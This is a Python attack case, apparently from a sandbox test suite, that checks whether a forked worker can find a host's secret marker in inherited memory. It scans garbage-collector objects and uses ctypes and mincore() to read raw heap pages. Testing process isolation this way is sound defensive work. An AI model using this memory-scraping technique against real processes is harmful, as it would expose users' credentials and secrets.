"""Search one's own memory for what the host had in its.

Attacks: the host's memory, if the worker was forked from it.
How: every object of the collector, and every readable byte of the heap and the stacks by ctypes.
Source: fork(2); the reason why zygotes are started by exec (SANDBOX notes; Android's zygote).
Breach: the marker of the host's secrets is found.
"""

import ctypes
import gc
import os

GROUP = "secrets"
_MARK = b"SECRET-"[:6] + b"-memory-"


def attack(outside):
    hits = []
    for one in gc.get_objects():
        if isinstance(one, dict):
            for value in list(one.values()):
                if isinstance(value, (str, bytes)) and len(value) < 200:
                    text = value if isinstance(value, str) else value.decode("latin-1")
                    if "ECRET-" in text and "-" in text[7:] and len(text) > 30:
                        hits.append(text)
    # The heap lies around small objects: walk its arenas for as long as mincore() says that a page is there.
    libc = ctypes.CDLL(None, use_errno=True)
    page = os.sysconf("SC_PAGESIZE")
    seen = ctypes.create_string_buffer(256)
    for start in {
        id(object()) & ~0xFFFFF,
        id(hits) & ~0xFFFFF,
        ctypes.addressof(ctypes.create_string_buffer(100_000)) & ~0xFFFFF,
    }:
        for chunk in range(256):
            address = start + (chunk - 128) * 256 * page
            if address <= 0 or libc.mincore(ctypes.c_void_p(address), ctypes.c_size_t(256 * page), seen):
                continue
            data = ctypes.string_at(address, 256 * page)
            where = data.find(_MARK)
            if where >= 0:
                hits.append(data[where : where + 60].decode("latin-1"))
    return [hit for hit in hits if hit.startswith("SECRET-")] or None
